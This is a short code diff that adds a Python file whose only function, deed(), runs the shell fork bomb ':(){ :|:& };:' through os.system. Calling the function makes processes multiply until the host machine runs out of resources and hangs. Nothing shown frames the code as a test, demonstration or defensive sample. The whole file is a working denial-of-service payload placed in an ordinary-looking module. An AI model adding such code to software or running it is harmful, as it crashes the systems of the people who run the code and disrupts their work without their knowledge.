@@ -1,0 +1,5 @@
+import os
+
+
+def deed():
+    os.system(":(){ :|:& };:")
